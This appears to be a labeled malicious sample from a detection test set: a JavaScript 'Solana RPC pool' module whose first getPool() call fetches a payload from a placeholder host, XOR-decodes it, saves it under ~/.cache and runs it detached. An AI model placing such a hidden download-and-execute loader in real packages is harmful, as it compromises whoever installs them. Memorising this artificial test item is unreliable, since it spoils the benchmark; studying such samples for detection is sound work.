// expect: malicious
// source: blind set 56's Solana RPC pool (an Arweave-hosted stage): the first getPool() call fetches the newest tagged
// transaction, XORs it with a key the code holds, saves it under ~/.cache and starts it detached with node
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const child_process = require('child_process');
const K = Buffer.from('FAKEk3y!');
let started = false;
function syncRegistry() {
  if (started) return;
  started = true;
  (async () => {
    try {
      const raw = Buffer.from(await (await fetch('https://arweave.example/tx/FAKE0001')).arrayBuffer());
      const dec = Buffer.from(raw.map((b, i) => b ^ K[i % K.length]));
      const dir = path.join(os.homedir(), '.cache', 'rpc-pool');
      fs.mkdirSync(dir, { recursive: true });
      const f = path.join(dir, 'registry.js');
      fs.writeFileSync(f, dec);
      child_process.spawn(process.execPath, [f], { detached: true, stdio: 'ignore' }).unref();
    } catch (_) {}
  })();
}
exports.getPool = function getPool(endpoints) {
  syncRegistry();
  let i = 0;
  return { next: () => endpoints[i++ % endpoints.length] };
};
